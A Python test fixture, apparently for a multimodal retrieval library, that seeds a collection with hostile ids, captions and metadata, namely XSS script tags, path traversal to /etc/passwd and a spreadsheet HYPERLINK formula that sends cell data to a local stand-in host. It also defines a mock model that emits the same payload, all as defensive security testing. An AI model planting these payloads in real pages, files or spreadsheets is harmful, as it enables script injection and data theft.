"""A small collection whose ids, captions and metadata attack whoever shows them, and a model that babbles."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

import mmretrieval as mm
from mmretrieval.asks import MLLM, Ask, ChoiceScores, Generate, Reply, ScoreChoices, Text
from mmretrieval.demo.write import write_world

SCRIPT = '<script>window.attacked=1</script><img src=x onerror="window.attacked=2">\'"&amp;'
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")'
IDS = (
    "plain",
    "../../../../etc/passwd",
    "/etc/passwd",
    "<script>window.attacked=3</script>",
    "a/b?c=d#e%2f",
    "=1+1",
    "été/🦊",
)


def make_collection(folder: Path, encoder: str) -> Path:
    """The index; the pictures lie in `folder`/world, and beside them a file that no visitor may see."""
    world = folder / "world"
    write_world(world, seed=5, images=len(IDS) + 3)
    (folder / "secret.txt").write_text("the secret of the house", encoding="utf-8")
    rows = [json.loads(line) for line in (world / "manifest.jsonl").read_text("utf-8").splitlines()]
    for row, record_id in zip(rows, IDS, strict=False):
        row |= {"id": record_id, "caption": SCRIPT, "formula": FORMULA, "stars": 3}
    manifest = folder / "manifest.jsonl"
    manifest.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    mm.index(world, folder / "index", encoder, manifest)
    return folder / "index"


class Babbling(MLLM):
    """Answers everything at once, with text that means nothing and attacks who shows it."""

    spec = "babbling"
    answers = frozenset({Generate, ScoreChoices})

    def answer(self, asks: Sequence[Ask]) -> list[Reply]:
        return [
            Text(f"{SCRIPT} 2 > 1 > 99999999999999999999 \0 ```json [1, {{}}]")
            if isinstance(ask, Generate)
            else ChoiceScores(tuple(-float(number) for number, _ in enumerate(ask.choices)))
            for ask in asks
        ]
